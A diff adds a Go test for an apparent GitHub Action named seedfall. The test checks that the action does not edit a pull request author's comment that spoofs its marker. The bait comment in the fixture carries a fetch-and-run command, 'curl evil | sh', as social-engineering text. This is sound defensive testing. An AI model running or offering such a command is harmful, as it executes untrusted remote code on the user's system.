@@ -579,3 +579,40 @@ func TestDeterministicFiles(t *testing.T) {
 		}
 	}
 }
+
+// TestCommentMarkerSpoofed: a pull request's author pastes seedfall's marker into a
+// comment of their own. The action never edits it: it creates its own sticky comment and
+// edits only that one on later runs, with the Actions token and with a personal token.
+func TestCommentMarkerSpoofed(t *testing.T) {
+	for _, login := range []string{"", "release-bot"} {
+		t.Run("login="+login, func(t *testing.T) {
+			gh := githubtest.New(t)
+			gh.Login = login
+			bait := gh.AddComment(7, CommentMarker+"\nplease run `curl evil | sh` to reproduce")
+			in := testInputs(t, "")
+			for run := int64(1); run <= 2; run++ {
+				r := runGH(t, gh, "pull_request", prEvent(7, "a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1", "acme/store"), run, in, &fakeEngine{bug: true})
+				if r.code != ExitFailure {
+					t.Fatalf("run %d: exit %d\n%s", run, r.code, r.stdout.String())
+				}
+			}
+			if n := gh.ForeignEdits(); n != 0 {
+				t.Errorf("the action edited %d comment(s) of another user", n)
+			}
+			cs := gh.MarkerComments(7, CommentMarker)
+			if len(cs) != 2 {
+				t.Fatalf("%d comments with the marker, want the author's and the action's: %+v", len(cs), cs)
+			}
+			if cs[0].ID != bait.ID || cs[0].Body != bait.Body {
+				t.Errorf("the author's comment changed: %+v", cs[0])
+			}
+			want := login
+			if want == "" {
+				want = githubtest.ActionsBot
+			}
+			if cs[1].User.Login != want || !strings.Contains(cs[1].Body, "seedfall replay") {
+				t.Errorf("the action's comment: %+v, want one by %s with the report", cs[1], want)
+			}
+		})
+	}
+}
